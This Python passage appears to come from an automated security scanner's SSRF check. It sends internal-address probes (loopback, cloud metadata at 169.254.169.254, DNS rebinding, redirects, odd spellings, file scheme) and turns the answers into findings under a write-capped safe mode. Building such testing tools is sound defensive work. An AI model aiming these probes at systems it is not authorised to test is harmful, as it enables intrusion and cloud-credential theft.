    ctx: ScanContext, self_ref: SelfReference | None, tok: Callable[[str], str]
) -> list[Probe]:
    """For a blind fetcher with no inside listener: internal payloads whose answers we compare
    with a fetch that worked (stage 1) and one that failed (our host on a closed port)."""
    assert ctx.oob is not None
    split = urlsplit(ctx.client.base_url)
    port = self_ref.port if self_ref else split.port or (443 if split.scheme == "https" else 80)
    path = self_ref.path if self_ref else "/"
    closed = _closed_port(ctx.oob.advertise_host)
    return [
        Probe(
            "diff-error",
            "our host on a closed port (a fetch that fails)",
            f"http://{ctx.oob.advertise_host}:{closed}/{tok('closed')}",
            rung="diff",
        ),
        Probe(
            "diff-internal",
            "the target's own port via 127.0.0.1",
            f"http://127.0.0.1:{port}{path}",
            rung="diff",
        ),
        Probe("diff-internal", "cloud metadata 169.254.169.254", METADATA_URL, rung="diff"),
    ]


def _closed_port(host: str) -> int:
    """A port on our callback host with nothing listening: bind an ephemeral one and let it go."""
    try:
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as sock:
            sock.bind((host, 0))
            return int(sock.getsockname()[1])
    except OSError:  # the callback host is not ours to bind (a remote OOB server)
        return 1


def _shape(ex: Exchange | None) -> tuple[object, ...]:
    """What an answer looks like, values aside: status and JSON keys (or content type)."""
    if ex is None or ex.status is None:
        return ("no answer",)
    kind: object = ex.response_headers.get("content-type", "").split(";")[0]
    body = safe_json_loads(ex.body_text)
    if isinstance(body, dict):
        kind = tuple(sorted(body))
    return (ex.status, kind)


async def _stage2(
    ctx: ScanContext,
    target: Target,
    first: list[Probe],
    self_ref: SelfReference | None,
    slots: asyncio.Semaphore,
    *,
    late: bool = False,
    guarded: bool = False,
) -> list[Finding]:
    """Depth probes. ``late``: a background job, so the answers wait for the grace window.
    ``guarded``: stage 1 saw no callback, only differing answers. ``slots``: the targets whose
    probes are being sent (released before any wait for callbacks)."""
    reflects = any(p.reflected for p in first)
    note = ""
    if write_budget(ctx, target.op) is not None:
        probes = _depth_probes(ctx, target, self_ref, reflects)
        ladder = len(probes)
        probes = await _safe_depth(ctx, target, first, probes, wait=late or guarded)
        if len(probes) < ladder:
            note = (
                f"depth partly measured in safe mode: {len(probes)} of {ladder} rungs "
                "(a write operation); --mode full runs them all"
            )
    else:
        async with slots:
            probes = _depth_probes(ctx, target, self_ref, reflects)
            await asyncio.gather(*(_fire(ctx, target, p) for p in probes))
        if late or guarded:
            await _await_callbacks(ctx, [p for p in probes if p.token])
    if guarded and not any(p.reached for p in probes if p.group in INTERNAL_GROUPS):
        _not_determined(
            ctx,
            target,
            "answers our URLs differently (a guard in front of a fetcher) and refused every "
            "internal payload, but never fetched a callback: "
            + NOT_DETERMINED_FIX
            + (f" ({note})" if note else ""),
        )
        return []
    ok = next((p.exchange for p in first if p.http_hit and p.exchange), None)
    failed = next((p.exchange for p in probes if p.group == "diff-error"), None)
    if ok is not None and failed is not None and _shape(ok) != _shape(failed):
        for p in probes:
            if p.group == "diff-internal":
                p.likely = _shape(p.exchange) == _shape(ok)
                p.refused = _shape(p.exchange) not in (_shape(ok), _shape(failed))
    return _verdict(ctx, target, first, probes, reflects, note)


def write_budget(ctx: ScanContext, op: Operation) -> int | None:
    """Safe mode, a write operation: how many more writes it may take (None: no cap)."""
    policy = ctx.client.policy
    if ctx.options.mode == "full" or policy is None or op.method in SAFE_METHODS:
        return None
    return policy.writes_left(op.key)


def kept_back(ex: Exchange) -> bool:
    """The send policy kept this request back (the write cap): it was never sent."""
    return ex.status is None and (ex.error or "").startswith("skipped:")


def _unsent(probe: Probe) -> bool:
    return probe.exchange is not None and kept_back(probe.exchange)


async def _safe_depth(
    ctx: ScanContext, target: Target, first: list[Probe], ladder: list[Probe], *, wait: bool
) -> list[Probe]:
    """Safe mode through a write operation (each probe may store or create something): the rungs
    that decide the verdict, in rounds, stopping once it is decided; at most 5, within the
    operation's write cap. Returns the probes sent.

    1. The plain internal address, a name answering it, the file: scheme (reflecting inputs):
       the literal getting in means no validation at all (done).
    2. A name got in: the guard reads the URL text; one odd spelling shows it (done).
       Otherwise the guard checks addresses (or names do not resolve here): a rebinding name
       (or an odd spelling) and the unspecified address 0.0.0.0.
    3. One more: cloud metadata where a range blocklist showed (0.0.0.0 got in) or the input
       reflects, else a redirect from our host to the inside.
    """
    names = any(p.group == "external-dns" and (p.http_hit or p.reflected) for p in first)
    sent: list[Probe] = []
    tried: set[int] = set()  # id() of probes fired (sent, or kept back by the cap)

    def take(*rungs: str) -> list[Probe]:
        out = []
        for rung in rungs:
            probe = next((p for p in ladder if p.rung == rung and id(p) not in tried), None)
            if probe is not None:
                out.append(probe)
        return out

    def reached(*rungs: str) -> bool:
        return any(p.rung in rungs and (p.reached or p.likely) for p in sent)

    async def fire(batch: list[Probe]) -> None:
        left = write_budget(ctx, target.op)
        batch = batch[: left if left is not None else len(batch)]
        tried.update(id(p) for p in batch)
        await asyncio.gather(*(_fire(ctx, target, p) for p in batch))
        if wait:
            await _await_callbacks(ctx, [p for p in batch if p.token])
        sent.extend(p for p in batch if not _unsent(p))

    literal = take("literal") or take("metadata")
    await fire(
        [*literal, *(take("name") or take("name-metadata") if names else []), *take("file")]
        + [p for p in ladder if p.rung == "diff"]
    )
    if any(p.reached for p in literal):
        return sent
    if names and reached("name", "name-metadata"):
        await fire(take("spelling"))
        return sent
    await fire([*(take("rebinding") if names else take("spelling")), *take("unspecified")])
    if reached("unspecified") or any(p.reflected for p in first):
        await fire(take("metadata") or take("redirect"))
    else:
        await fire(take("redirect") or take("metadata"))
    return sent


def _landed(hits: list[Probe]) -> str:
    """Where the blind proof landed: the inside listener, the metadata canary, or both."""
    where = {i.listener for p in hits for i in p.interactions if i.listener in INSIDE_LISTENERS}
    places = []
    if where & {"inside", "inside6"}:
        places.append("our listener on the target's loopback")
    if "metadata" in where:
        places.append("our metadata canary at 169.254.169.254")
    return (" and ".join(places) or "our inside listener").capitalize() + " received the request."


def _verdict(
    ctx: ScanContext,
    target: Target,
    first: list[Probe],
    probes: list[Probe],
    reflects: bool,
    note: str = "",
) -> list[Finding]:
    """Findings and coverage for one input. ``note``: the depth left untried in safe mode, said
    in each finding and coverage line."""
    findings = _judge(ctx, target, first, probes, reflects, note)
    if note:
        for finding in findings:
            finding.description += f" ({note[0].upper()}{note[1:]}.)"
            finding.evidence.details["depth"] = note
    return findings


def _judge(
    ctx: ScanContext,
    target: Target,
    first: list[Probe],
    probes: list[Probe],
    reflects: bool,
    note: str,
) -> list[Finding]:
    worked = [p for p in probes if p.group in INTERNAL_GROUPS and p.reached]
    refused = [p for p in probes if p.group in INTERNAL_GROUPS and not p.reached]
    findings: list[Finding] = []
    exchanges = [p.exchange for p in first if p.exchange][:1]

    def evidence(summary: str, hits: list[Probe], **details: object) -> Evidence:
        return Evidence(
            summary=summary,
            exchanges=exchanges + [p.exchange for p in hits if p.exchange][:3],
            interactions=[i for p in [*first, *hits] for i in p.interactions][:20],
            payloads_worked=[p.text for p in hits],
            payloads_failed=[p.text for p in refused],
            details={"reflected": any(p.reflected for p in hits), **details},
        )

    # Schemes are their own finding, whatever the address validation does.
    for probe in probes:
        scheme = SCHEME_FINDINGS.get(probe.group)
        if scheme is None or not (probe.reflected or probe.inside_hit):
            continue
        severity, title, why, summary = scheme
        findings.append(
            Finding(
                kind="ssrf.scheme",
                category=CATEGORY,
                severity=severity,
                confidence=Confidence.CONFIRMED,
                title=title,
                operation=target.op.key,
                input=target.label,
                description=f"{target.label} {why}",
                evidence=evidence(summary, [probe]),
            )
        )

    literal = [p for p in worked if p.group in ("loopback", "self")]
    if not any(p.group in ("loopback", "self") for p in probes):
        # Nothing tested the plain internal address: a metadata read is the plain case too.
        literal += [p for p in worked if p.group == "metadata"]
    if literal:
        # No address validation at all (or none we could distinguish): one finding, all evidence.
        hits = worked
        read = any(p.reflected for p in hits)
        metadata = any(p.group == "metadata" for p in hits)
        findings.append(
            Finding(
                kind="ssrf.internal-read" if read else "ssrf.internal-reach",
                category=CATEGORY,
                severity=Severity.CRITICAL if read else Severity.HIGH,
                confidence=Confidence.CONFIRMED,
                title=(
                    "SSRF reads cloud metadata and internal services"
                    if metadata and read
                    else "SSRF reaches cloud metadata and internal addresses (blind)"
                    if metadata
                    else "SSRF reads internal services"
                    if read
                    else "SSRF reaches internal addresses (blind)"
                ),
                operation=target.op.key,
                input=target.label,
                description=(
                    f"The server fetches any URL given in {target.label}, including internal addresses: "
                    + (
                        "the internal content came back in the response."
                        if read
                        else _landed(hits)[0].lower() + _landed(hits)[1:]
                    )
                    + f" {len(hits)} of {len(hits) + len(refused)} internal payloads got through."
                ),
                evidence=evidence(
                    f"{len(hits)} internal payloads reached, {len(refused)} refused",
                    hits,
                    metadata=metadata,
                ),
            )
        )
    elif worked:
        # Literal loopback was refused: the validation exists and these are its gaps.
        kinds = {
            "odd-spelling": (
                "ssrf.url-validation-bypass",
                "SSRF guard bypassed by odd spellings of an internal address",
                "blocks the literal internal address but not other spellings of the same address: it checks the URL text, not the address.",
            ),
            "dns-internal": (
                "ssrf.dns-resolved-internal",
                "SSRF through a name that resolves inside (DNS poisoning reaches internal hosts)",
                "validates the URL text but not the address its name resolves to: any name that resolves internally (a poisoned cache entry, a rebinding service, an attacker's own zone) gets in.",
            ),
            "rebinding": (
                "ssrf.dns-rebinding",
                "SSRF through DNS rebinding (time-of-check/time-of-use)",
                "checks the address a name resolves to, then lets the HTTP client resolve it again: the second answer is internal.",
            ),
            "redirect": (
                "ssrf.redirect-to-internal",
                "SSRF through redirects: hops are not re-checked",
                "validates the first URL but follows a redirect from an allowed host to an internal one.",
            ),
            "metadata": (
                "ssrf.internal-reach",
                "SSRF guard forgets cloud metadata (169.254.169.254)",
                "refuses loopback but not the link-local metadata address, where cloud credentials live.",
            ),
        }
        groups = {p.group for p in worked}
        for group, (kind, title, why) in kinds.items():
            if group not in groups or (group == "rebinding" and "dns-internal" in groups):
                continue  # a static internal name getting in already explains a rebinding hit
            hits = [p for p in worked if p.group == group]
            read = any(p.reflected for p in hits)
            if group == "metadata" and read:
                kind = "ssrf.internal-read"
            findings.append(
                Finding(
                    kind=kind,
                    category=CATEGORY,
                    title=title,
                    severity=Severity.CRITICAL if read else Severity.HIGH,
                    confidence=Confidence.CONFIRMED,
                    operation=target.op.key,
                    input=target.label,
                    description=f"The validation of {target.label} {why}"
                    + (
                        " The internal content came back in the response."
                        if read
                        else " " + _landed(hits)
                    ),
                    evidence=evidence(
                        f"{len(hits)} bypass payloads reached inside; the literal internal address was refused",
                        hits,
                    ),
                )
            )
    else:
        provable = any(p.group in ("loopback", "dns-internal") for p in probes) or any(
            p.group == "self" for p in probes
        )
        diff = [p for p in probes if p.group == "diff-internal"]
        if provable:
            ctx.cover(
                CHECK,
                CATEGORY,
                target.op,
                target.label,
                "passed",
                f"fetches user URLs; refused all {len(refused)} internal payloads"
                + (f"; {note}" if note else ""),
            )
        elif any(p.likely for p in diff):
            hits = [p for p in diff if p.likely]
            findings.append(
                Finding(
                    kind="ssrf.internal-reach",
                    category=CATEGORY,
                    title="SSRF likely reaches internal addresses (blind, by differential answers)",
                    severity=Severity.HIGH,
                    confidence=Confidence.LIKELY,
                    operation=target.op.key,
                    input=target.label,
                    description=(
                        f"The server fetches our URL from {target.label} and does not show the "
                        "result. Internal addresses got the same answer as a fetch that worked, "
                        "unlike a fetch that failed: the request most likely went through."
                    ),
                    evidence=Evidence(
                        summary=f"{len(hits)} internal payloads answered like a successful fetch",
                        exchanges=[e for e in [*exchanges, *(p.exchange for p in hits)] if e][:4],
                        interactions=[i for p in first for i in p.interactions][:20],
                        payloads_worked=[p.text for p in hits],
                        payloads_failed=[p.text for p in diff if not p.likely],
                        details={"differential": True},
                    ),
                )
            )
        elif diff and all(p.refused for p in diff):
            ctx.cover(
                CHECK,
                CATEGORY,
                target.op,
                target.label,
                "passed",
                f"fetches user URLs; refused all {len(diff)} internal payloads "
                "(answered unlike both a fetch that worked and one that failed)"
                + (f"; {note}" if note else ""),
            )
        else:
            hit = next(p for p in first if p.http_hit or p.reflected)
            findings.append(
                Finding(
                    kind="ssrf.external-fetch",
                    category=CATEGORY,
                    title="Server fetches attacker-supplied URLs (internal reach not determined)",
                    severity=Severity.MEDIUM,
                    confidence=Confidence.CONFIRMED,
                    operation=target.op.key,
                    input=target.label,
                    description=(
                        f"The server fetched our URL from {target.label}. Whether it also reaches internal "
                        "addresses could not be proven from here: the response does not reflect the fetch "
                        "and the target does not share our loopback. Treat it as SSRF until the guard is verified."
                    ),
                    evidence=evidence("OOB callback received", [hit]),
                )
            )
    if findings:
        ctx.cover(
            CHECK,
            CATEGORY,
            target.op,
            target.label,
            "failed",
            ", ".join(sorted({f.kind for f in findings})) + (f"; {note}" if note else ""),
        )
    return findings
